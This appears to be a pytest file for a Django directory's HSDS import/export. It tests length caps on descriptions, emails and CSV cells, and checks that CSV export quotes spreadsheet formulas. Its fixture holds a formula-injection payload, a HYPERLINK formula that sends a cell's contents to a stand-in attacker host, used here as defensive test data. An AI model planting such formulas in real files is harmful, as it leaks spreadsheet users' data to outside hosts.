"""Fields are capped by what the standard says they hold, and a CSV export is safe to open in
a spreadsheet and imports back unchanged. Both ways an import writes (the `writes` fixture)."""

import csv
import json
import shutil

import pytest

from directory import hsds_tables as t
from directory.hsds_export import export_hsds, services_as_json
from directory.hsds_import import ImportFailed, import_hsds
from directory.hsds_import.caps import BY_COLUMN, DESCRIPTION, EMAIL, cap
from directory.hsds_import.checks import bounds
from directory.models import Phone, Service
from directory.tests.hsds_data import ARRAY, CSV_OK

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("writes")]


def stored() -> dict[str, int]:
    return {table: model.objects.count() for table, model in t.MODELS.items()}


def write(tmp_path, services, name="services.json"):
    path = tmp_path / name
    path.write_text(json.dumps(services))
    return path


def test_every_capped_column_is_a_text_column_of_hsds():
    texts = {column for table in t.tables() for column in bounds(table).texts}
    assert set(BY_COLUMN) <= texts
    # And every text column has a length it is checked against.
    for table in t.tables():
        assert {length.column for length in bounds(table).lengths} == set(bounds(table).texts)


def test_a_description_at_its_cap_imports_and_one_over_it_is_refused_whole(tmp_path):
    services = json.loads(ARRAY.read_text())
    services[0]["description"] = "a" * DESCRIPTION.limit
    assert import_hsds(write(tmp_path, services)).counts["service"] == 3
    before = stored()
    services[1]["description"] = "b" * (DESCRIPTION.limit + 1)
    services[2]["name"] = "A new name"  # a change the refused import must not write
    with pytest.raises(ImportFailed) as failed:
        import_hsds(write(tmp_path, services, "again.json"))
    assert failed.value.report.errors == [
        "again.json$[1].description: 30,001 characters; a description may have at most 30,000."
    ]
    assert stored() == before
    assert Service.objects.get(pk=services[2]["id"]).name != "A new name"


def test_a_nested_email_over_rfc_5321s_length_is_refused_with_its_path(tmp_path):
    services = json.loads(ARRAY.read_text())
    contact = services[0]["contacts"][0]
    contact.update(id="0c6b5e3e-2f0f-4c55-9f4e-6f1e7e1c0a11", email="a" * 250 + "@x.org")
    with pytest.raises(ImportFailed) as failed:
        import_hsds(write(tmp_path, services))
    assert failed.value.report.errors == [
        "services.json$[0].contacts[0].email: 256 characters; "
        f"{EMAIL.meaning} may have at most 254."
    ]
    assert not Service.objects.exists()


def test_an_oversized_csv_cell_is_refused_by_file_row_and_column(tmp_path):
    folder = tmp_path / "csv"
    shutil.copytree(CSV_OK, folder)
    with (folder / "phones.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    rows[0]["number"] = "1" * (cap("number").limit + 1)
    with (folder / "phones.csv").open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with pytest.raises(ImportFailed) as failed:
        import_hsds(folder)
    assert failed.value.report.errors == [
        "phones.csv row 2 column number: 65 characters; a telephone number may have at most 64."
    ]
    assert stored() == dict.fromkeys(t.MODELS, 0)


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "description": "-2+3 is how it starts",
    "alternate_name": "@SUM(1+1)",
}


def test_the_csv_export_quotes_formulas_but_not_phone_numbers_and_imports_back(tmp_path):
    services = json.loads(ARRAY.read_text())
    services[0].update(FORMULAS)
    services[0]["phones"][0]["number"] = "+44 20 7946 0000"
    services[1]["name"] = "'=already quoted"  # a quote of its own survives the trip too
    import_hsds(write(tmp_path, services))
    before = services_as_json()
    export_hsds(tmp_path / "out")

    with (tmp_path / "out" / "services.csv").open(newline="") as handle:
        by_id = {row["id"]: row for row in csv.DictReader(handle)}
    first = by_id[services[0]["id"]]
    assert {k: first[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert by_id[services[1]["id"]]["name"] == "''=already quoted"
    with (tmp_path / "out" / "phones.csv").open(newline="") as handle:
        numbers = {row["number"] for row in csv.DictReader(handle)}
    assert "+44 20 7946 0000" in numbers

    Phone.objects.all().delete()
    Service.objects.all().delete()
    import_hsds(tmp_path / "out")
    assert services_as_json() == before
